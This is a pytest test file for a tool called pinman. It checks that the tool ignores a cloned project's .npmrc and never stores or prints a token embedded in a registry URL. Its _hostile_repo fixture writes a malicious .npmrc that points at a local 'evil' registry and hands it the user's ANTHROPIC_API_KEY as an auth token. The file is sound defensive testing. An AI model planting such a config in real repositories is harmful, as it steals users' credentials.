"""pinman's own registry lookups read the user's and the global npm config, never a project's
`.npmrc`; a value the environment supplies to a registry URL is never stored or printed."""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from cli_support import DEFAULT_KEY, claude, pinman
from e2e_support import serve_packuments

from pinman.errors import RegistryError
from pinman.fingerprint.fakeapi import FakeAPI
from pinman.npm.config import load_npm_config
from pinman.paths import Paths
from pinman.npm.registry import Registry

CLAUDE_CODE = "@anthropic-ai/claude-code"
V2 = "2.1.331"
PACKUMENT = {"name": CLAUDE_CODE, "dist-tags": {"latest": V2}, "versions": {V2: {"version": V2, "dist": {}}}}
PATH_TOKEN = "npm-path-token-5e4d3c2b1a09"  # a registry that takes its token in the URL path


class Recorder:
    """A registry answering like the real one, remembering each request's path and Authorization."""

    def __init__(self) -> None:
        self.requests: list[tuple[str, str | None]] = []


@pytest.fixture
def evil_registry() -> Iterator[tuple[str, Recorder]]:
    seen = Recorder()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (http.server's naming)
            seen.requests.append((self.path, self.headers.get("Authorization")))
            body = json.dumps(PACKUMENT).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/", seen
    finally:
        server.shutdown()
        server.server_close()


def _hostile_repo(tmp_path: Path, evil_url: str) -> Path:
    """A cloned repository with no pinman file at all: a package.json and a `.npmrc` that would
    hand the evil registry the user's key as a bearer token."""
    repo = tmp_path / "cloned"
    repo.mkdir()
    (repo / "package.json").write_text("{}")
    host = evil_url.removeprefix("http:")
    (repo / ".npmrc").write_text(f"registry={evil_url}\n{host}:_authToken=${{ANTHROPIC_API_KEY}}\n"
                                 f"@anthropic-ai:registry={evil_url}\n")
    return repo


def test_a_project_npmrc_is_never_read(tmp_path: Path, evil_registry: tuple[str, Recorder],
                                       monkeypatch: pytest.MonkeyPatch) -> None:
    evil_url, seen = evil_registry
    repo = _hostile_repo(tmp_path, evil_url)
    monkeypatch.chdir(repo)
    monkeypatch.setenv("ANTHROPIC_API_KEY", DEFAULT_KEY)
    cfg = load_npm_config()
    assert cfg.registry_for(CLAUDE_CODE) == "https://registry.npmjs.org/"
    assert cfg.auth_header(evil_url + "x") is None
    assert str(repo / ".npmrc") not in cfg.sources.values()


@pytest.mark.e2e
def test_commands_in_a_hostile_repo_never_ask_its_registry(
        pinman_home: Paths, seeded_home: Callable[..., object], tmp_path: Path,
        evil_registry: tuple[str, Recorder]) -> None:
    """The active profile follows a tag, so these commands resolve it: only through the user's
    registry (PINMAN_REGISTRY_TTL=0: no answer from a cache where pinman has one)."""
    seeded_home(V2)
    evil_url, evil = evil_registry
    hits: list[str] = []
    with serve_packuments({CLAUDE_CODE: PACKUMENT}, hits) as good_url, FakeAPI("ok") as api:
        Path.home().joinpath(".npmrc").write_text(f"registry={good_url}\n")
        pinman_home.user_profiles.mkdir(parents=True)
        (pinman_home.user_profiles / "follow.toml").write_text('[claude-code]\nversion = "latest"\n')
        elsewhere = tmp_path / "elsewhere"
        elsewhere.mkdir()
        assert pinman(pinman_home, elsewhere, "use", "follow").code == 0
        for ptr in pinman_home.links.rglob("*"):  # so `current` and the shim resolve again
            if ptr.is_file():
                ptr.unlink()
        repo = _hostile_repo(tmp_path, evil_url)
        hits.clear()
        for args in (["current"], ["status"], ["list"], ["resolve", "latest"],
                     ["check", "--isolated-home"]):
            r = pinman(pinman_home, repo, *args, ANTHROPIC_BASE_URL=api.url, PINMAN_REGISTRY_TTL="0")
            assert r.code == 0, (args, r.text)
            assert V2 in r.out, (args, r.text)
        r = claude(pinman_home, repo, "--version", PINMAN_REGISTRY_TTL="0")  # the slow path resolves the tag
        assert r.code == 0 and V2 in r.out, r.text
    assert evil.requests == []
    assert hits  # the registry that was asked is the user's (a read command may answer from its cache)


def test_a_token_in_the_registry_url_is_neither_cached_nor_shown(
        pinman_home: Paths, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NPM_PATH_TOKEN", PATH_TOKEN)
    with serve_packuments({f"{PATH_TOKEN}/npm/{CLAUDE_CODE}": PACKUMENT}) as url:
        npmrc = Path.home() / ".npmrc"
        npmrc.write_text(f"registry={url}${{NPM_PATH_TOKEN}}/npm/\n")
        reg = Registry(pinman_home, config=load_npm_config())
        assert reg.url_for(CLAUDE_CODE) == f"{url}{PATH_TOKEN}/npm/"
        assert reg.resolve(CLAUDE_CODE, "latest").version == V2  # the token did reach the registry

        npmrc.write_text(f"registry={url}${{NPM_PATH_TOKEN}}/elsewhere/\n")
        with pytest.raises(RegistryError) as e:  # 404: the message names the registry
            Registry(pinman_home, config=load_npm_config()).resolve(CLAUDE_CODE, "latest")
        shown = e.value.message + (e.value.hint or "")
        assert PATH_TOKEN not in shown and f"{url}${{NPM_PATH_TOKEN}}/elsewhere/" in shown
    files = [f for f in pinman_home.cache.rglob("*") if f.is_file()]
    assert files and all(PATH_TOKEN not in f.read_text(errors="replace") for f in files)
    assert any("${NPM_PATH_TOKEN}" in f.read_text(errors="replace") for f in files)

    with pytest.raises(RegistryError) as e:  # gone: nothing cached for this URL, nothing listens
        npmrc.write_text(f"registry={url}${{NPM_PATH_TOKEN}}/gone/\n")
        Registry(pinman_home, config=load_npm_config()).resolve(CLAUDE_CODE, "latest")
    assert PATH_TOKEN not in e.value.message + (e.value.hint or "")
